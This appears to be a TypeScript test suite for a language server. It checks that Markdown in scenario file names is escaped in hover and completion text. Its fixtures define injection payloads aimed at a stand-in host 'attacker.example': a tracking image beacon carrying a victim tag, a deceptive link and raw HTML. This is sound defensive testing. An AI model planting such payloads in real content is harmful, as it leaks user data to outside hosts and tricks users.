// Names from the file never become Markdown in a hover or a completion's documentation
// (protocol/markdown.ts): a device, file, memfd or scenario name holding a link, an image, HTML or
// a bare URL shows as the text it is. The kernel's refusal reasons carry the device's name
// (`renderD128 …: the driver refuses copy-on-write`, kernel/mmap.ts and kernel/mremap.ts), and
// they reached the hover unescaped: pointing at `mmap` fetched the image and offered the link
// (security review F1). hover.test.ts puts such names into maps that succeed; here they are in
// every refusal that names the device, and in every string of every example.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { analyseDocument, type DocumentAnalysis } from '../../../server/src/engine/analysis';
import { hoverAt } from '../../../server/src/engine/features/hover';
import { completionsAt } from '../../../server/src/engine/features/completion';
import { escapeMarkdown, markdownAsPlainText } from '../../../protocol/markdown';

const IMAGE = '![](https://attacker.example/beacon.png?u=victim)';
const LINK = '[Open the fix](https://attacker.example/fix)';
/** Appended to every string of a document: Markdown an attacker would put in a device's name. */
const PAYLOAD = ` ${IMAGE} ${LINK} <img src=x> https://attacker.example/bare www.attacker.example me@attacker.example *em* _em_ \`tick`;

/** Every string in a scenario file (scenario, memfd, file and device names) with the payload appended. */
function withPayload(text: string): string {
  return text.replace(/"([^"\n]*)"/g, (_m, s: string) => `"${s}${PAYLOAD}"`);
}

/**
 * What a renderer reads as Markdown syntax: the text without its code spans and backslash
 * escapes, which both show literally (scanned as one alternation, left to right, as a renderer
 * reads them).
 */
function syntaxOf(markdown: string): string {
  return markdown.replace(/`[^`\n]*`|\\[\s\S]/g, '');
}

/** The payload's pieces a renderer would act on, if any survived unescaped. */
function injected(markdown: string): string[] {
  // drvmap's own link, to a rule's documentation, is the one link a hover may hold.
  const syntax = syntaxOf(markdown).replace(/\[Documentation\]\(/g, '');
  const found: string[] = [];
  if (syntax.includes('](')) found.push('a link `](`');
  if (syntax.includes('![')) found.push('an image `![`');
  if (syntax.includes('<img')) found.push('HTML');
  // An unescaped `:` or `.` lets a GitHub-flavoured renderer autolink a bare URL or address.
  if (/https:|attacker\.|@attacker/.test(syntax)) found.push('an autolink');
  if (syntax.includes('*em*') || syntax.includes('_em_')) found.push('emphasis');
  return found;
}

/** Every distinct hover in the document, and the offset of its first occurrence. */
function everyHover(analysis: DocumentAnalysis): Map<string, number> {
  const hovers = new Map<string, number>();
  for (let offset = 0; offset <= analysis.text.length; offset++) {
    const markdown = hoverAt(analysis, offset)?.markdown;
    if (markdown !== undefined && !hovers.has(markdown)) hovers.set(markdown, offset);
  }
  return hovers;
}

function assertNoInjection(what: string, analysis: DocumentAnalysis, markdown: string, offset: number): void {
  const found = injected(markdown);
  const line = analysis.lines.position(offset).line + 1;
  assert.deepEqual(found, [], `${what} at line ${line} renders ${found.join(', ')}:\n${markdown}`);
}

/** Each refusal whose reason names the device, and an expectation that repeats it. */
const REFUSALS = `scenario "names" {
  kernel 6.6
  f = open memfd "wbuf" 20KiB
  a = mmap 20KiB rw shared fd f
  d = open file "data" 8KiB
  b = mmap 8KiB rw private fd d
  bo = open device "renderD128" 2MiB
  c = mmap 2MiB rw private fd bo
  expect c == EINVAL
  e = mmap 2MiB rw shared fd bo
  g = mremap e, 2MiB, 4MiB maymove
  expect g == EFAULT
  h = mremap e, 2MiB, 2MiB maymove dontunmap
  expect h == EINVAL
  i = mmap 4MiB rw shared fd bo
  expect i == EINVAL
  j = mmap 2MiB rw shared fd bo offset 0x1000
  expect j == EINVAL
  expect read a + 0x10, 1 == zero
  expect mapped b
}
`;

describe('hover Markdown: names from the file stay text', () => {
  const text = withPayload(REFUSALS);
  const analysis = analyseDocument(text);
  const device = `renderD128${PAYLOAD}`;

  test("a refusal's reason shows the device's name literally, escaped", () => {
    // The name has a `/` and a `:`: open-step.ts takes it as the path it is.
    const at = text.indexOf('mmap 2MiB rw private');
    const markdown = hoverAt(analysis, at)?.markdown ?? '';
    assert.ok(
      markdown.includes(`Result: **EINVAL** — ${escapeMarkdown(`${device}: the driver refuses copy`)}`),
      markdown,
    );
    // A client that reads plain text gets the name back as written.
    assert.ok(markdownAsPlainText(markdown).includes(`Result: EINVAL — ${device}: the driver refuses`));
    assertNoInjection('the hover', analysis, markdown, at);
  });

  test('no hover anywhere in the document renders a link, an image, HTML, an autolink or emphasis from a name', () => {
    const hovers = everyHover(analysis);
    // The payload reaches the hovers (escaped): through each refusal's reason and each expectation.
    const carrying = [...hovers.keys()].filter((m) => markdownAsPlainText(m).includes('beacon.png?u=victim'));
    assert.ok(carrying.length >= 8, `${carrying.length} hovers carry the device's name`);
    for (const [markdown, offset] of hovers) assertNoInjection('the hover', analysis, markdown, offset);
  });

  test("no completion's documentation renders one either", () => {
    for (let offset = 0; offset <= text.length; offset++)
      for (const item of completionsAt(analysis, offset))
        if (item.documentation) assertNoInjection('a completion', analysis, item.documentation, offset);
  });
});

test('a name written with underscores (`_m_`) is not emphasis in any hover', () => {
  const analysis = analyseDocument(`scenario "s" {
  driver _d_ {
    maps at-alloc
  }
  actor _e_
  _m_ = vkAllocateMemory 16MiB host-visible coherent
  _p_ = vkMapMemory _m_
  _e_ writes _p_ + 0x100, 64
  _f_ = open memfd "x" 20KiB
  _a_ = mmap 20KiB rw shared fd _f_
  _b_ = mremap _a_, 20KiB, 20KiB maymove dontunmap
  _zz_ _a_
  expect read _a_ + _q_, 1 == zero
}
`);
  const hovers = everyHover(analysis);
  assert.ok([...hovers.keys()].some((m) => m.includes('**\\_m\\_** (memory)')));
  for (const [markdown, offset] of hovers) {
    const emphasis = /(^|[^\w])_[a-z]+_($|[^\w])/.exec(syntaxOf(markdown));
    const line = analysis.lines.position(offset).line + 1;
    assert.equal(emphasis, null, `the hover at line ${line} has emphasis:\n${markdown}`);
  }
});

describe('hover Markdown: the examples with the payload in every string', () => {
  const examplesDir = join(__dirname, '..', '..', '..', '..', 'examples');
  const files = readdirSync(examplesDir).filter((f) => f.endsWith('.drvmap'));

  test('there are examples to run over', () => assert.ok(files.length >= 10, `${files.length} examples`));

  for (const file of files) {
    test(`examples/${file}: no hover renders Markdown from a name`, () => {
      const analysis = analyseDocument(withPayload(readFileSync(join(examplesDir, file), 'utf8')));
      for (const [markdown, offset] of everyHover(analysis))
        assertNoInjection(`examples/${file}: the hover`, analysis, markdown, offset);
    });
  }
});
